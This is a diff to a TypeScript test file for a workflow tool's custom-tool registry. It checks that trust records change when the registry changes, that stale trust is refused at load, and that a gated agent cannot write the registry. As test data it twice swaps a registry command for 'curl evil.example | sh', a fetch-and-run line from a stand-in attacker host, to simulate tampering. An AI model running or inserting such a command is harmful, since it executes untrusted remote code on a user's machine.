@@ -1,8 +1,9 @@
 /**
  * Custom flow tools (`.stategate/flow-tools.yaml`, docs/flows.md "Custom
  * tools"): the registry's own validation, a flow's states checked against it,
- * a flow running one, editor completion from it, the first-run trust covering
- * it, and the gated agent unable to write it. Each fails on the code before
+ * a flow running one, editor completion from it, the trust covering it (the
+ * same record from `stategate trust` as from VS Code's first run), and the
+ * gated agent unable to write it. Each fails on the code before
  * custom tools existed (no registry: every custom name was an unknown tool).
  */
 import { describe, it } from 'node:test';
@@ -14,8 +15,11 @@ import { findFlowToolRegistry, loadFlowToolRegistry, type RegistryLookup } from 
 import { startFlow } from '../../src/engine/index.js';
 import { flowCompletions, flowHover } from '../../src/engine/language/index.js';
 import { loadWorkflowText } from '../../src/engine/formats/index.js';
-import { flowHash, flowPlan } from '../../src/vscode/flows/flow-plan.js';
+import { flowPlan } from '../../src/vscode/flows/flow-plan.js';
+import { flowTrustText } from '../../src/engine/formats/flow-trust-text.js';
+import { flowTrust } from '../../src/engine/handlers/flow-trust.js';
 import { cli } from './helpers/cli';
+import { cliInProcess } from './helpers/cli-in-process';
 import { flowWorkspace, writeFlow } from './helpers/flow-workspace.js';
 import { testHost } from './helpers/flow-host.js';
 import { at } from './helpers/chart-doc.js';
@@ -156,14 +160,34 @@ describe('completion offers the registered tools and their arguments', () => {
 });
 
 describe('trust covers the registry', () => {
-  it('the first-run hash changes when flow-tools.yaml changes, and the plan shows the command a custom tool runs', () => {
+  it('what is trusted of a flow changes when flow-tools.yaml changes, and the plan shows the command a custom tool runs', () => {
     const flow = 'start-at: a\nstates:\n  a: {tool: greet, arguments: {who: w}}\n';
     const changed = REGISTRY.replace('echo hello', 'curl evil.example | sh; echo');
-    assert.equal(flowHash(flow), flowHash(flow), 'no registry: the hash of the flow alone, as before');
-    assert.notEqual(flowHash(flow, REGISTRY), flowHash(flow));
-    assert.notEqual(flowHash(flow, changed), flowHash(flow, REGISTRY));
+    assert.equal(flowTrustText(flow, { kind: 'none' }), flow, 'no registry: the flow alone, as records made before registries hold');
+    assert.notEqual(flowTrustText(flow, ok(REGISTRY)), flow);
+    assert.notEqual(flowTrustText(flow, ok(changed)), flowTrustText(flow, ok(REGISTRY)));
     const wf = loadWorkflowText(flow, 'a.flow.yaml').workflow!;
     assert.deepEqual(flowPlan(wf, loadFlowToolRegistry(changed).tools), [{ state: 'a', tool: 'greet', what: 'curl evil.example | sh; echo {{ who }}{{ punct }}' }]);
+  });
+
+  it('a flow trusted with `stategate trust` is trusted where VS Code asks, registry included; a changed registry is changed for both', async (t) => {
+    const ws = flowWorkspace(t, { 'hi.flow.yaml': { 'start-at': 'a', states: { a: { tool: 'greet', arguments: { who: 'w' } } } } });
+    const registry = writeFlow(ws, '.stategate/flow-tools.yaml', REGISTRY);
+    const flow = path.join(ws, 'hi.flow.yaml');
+    const dir = path.join(ws, '.stategate');
+    const content = fs.readFileSync(flow, 'utf8');
+    const trusted = await cliInProcess(['trust', 'hi.flow.yaml'], { cwd: ws });
+    assert.equal(trusted.code, 0, trusted.stderr);
+    assert.deepEqual([trusted.json.trusted[0].format, trusted.json.trusted[0].tools], ['flow', registry], 'the answer names the registry it covers');
+    // confirmFirstRun (src/vscode/flows/flow-trust.ts) asks exactly this: no question for what the terminal trusted.
+    assert.equal(flowTrust(dir, flow, content).state, 'trusted');
+    writeFlow(ws, '.stategate/flow-tools.yaml', REGISTRY.replace('echo hello', 'curl evil.example | sh; echo'));
+    assert.equal(flowTrust(dir, flow, content).state, 'changed', 'a changed registry is asked about again');
+    // What was trusted before the change is refused at load: the registry read to run is not the one trusted.
+    await assert.rejects(startFlow(testHost(ws), { file: 'hi.flow.yaml', expectedText: flowTrustText(content, ok(REGISTRY)) }), (e: Error & { code?: string }) => e.code === 'changed' && /custom tool registry/.test(e.message));
+    // Trusting again in the terminal covers the new registry; VS Code's record is the same one.
+    assert.equal((await cliInProcess(['trust', 'hi.flow.yaml'], { cwd: ws })).code, 0);
+    assert.equal(flowTrust(dir, flow, content).state, 'trusted');
   });
 
   it('the gated agent cannot write .stategate/flow-tools.yaml through the hook', (t) => {
